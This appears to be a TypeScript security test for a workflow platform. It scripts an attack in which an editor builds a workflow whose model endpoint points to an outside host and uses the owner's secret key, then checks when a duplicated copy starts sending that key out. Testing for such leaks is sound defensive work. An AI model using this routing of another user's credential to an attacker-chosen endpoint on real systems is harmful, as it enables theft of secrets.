import assert from 'node:assert/strict';
import type { AttackCase } from '../attack-case.ts';

export const attack: AttackCase = {
  fault:
    "An owner duplicates an editor's workflow and runs it, and it sends the owner's own key to a path that the editor chose.",
  async play(context) {
    const { client, owner, outside, join } = await context.organization();
    const editor = await join('editor', { name: 'Edgar', email: 'edgar@example.com', password: 'drafts for others' });
    const secret = { name: 'COPY_KEY', value: 'own-key-of-the-owner', scope: 'user', hosts: [outside.host] };
    assert.equal((await client.request('PUT', '/secrets', { body: secret, headers: owner })).status, 204);
    const model = {
      provider: 'openai-compatible',
      model: 'm',
      base_url: `http://${outside.host}/copied`,
      credential: 'COPY_KEY',
    };
    const nodes = [{ id: 'a', type: 'agent', config: { model, prompt: 'go', tools: [] } }];
    const file = { format: 'pinion.workflow/1', name: 'Draft', nodes, edges: [] };
    const { body: draft } = await client.request<{ id: string }>('POST', '/workflows', { body: file, headers: editor });
    const copy = await client.request<{ id: string }>('POST', `/workflows/${draft.id}/duplicate`, { headers: owner });
    assert.equal(copy.status, 201, copy.text);
    const run = (id: string) =>
      client.request('POST', `/workflows/${id}/runs`, { body: { input: null, wait_s: 20 }, headers: owner });
    const sent = () => outside.received.filter(({ path }) => path.startsWith('/copied'));
    await run(draft.id);
    await run(copy.body.id);
    assert.deepEqual(sent(), []);
    const saved = await client.request('PUT', `/workflows/${copy.body.id}`, { body: { ...file, name: 'Mine' }, headers: owner });
    assert.ok(saved.status < 300, saved.text);
    await run(copy.body.id);
    assert.equal(sent().length, 1);
    return 'the key was sent after the owner saved the copy, and not before';
  },
};
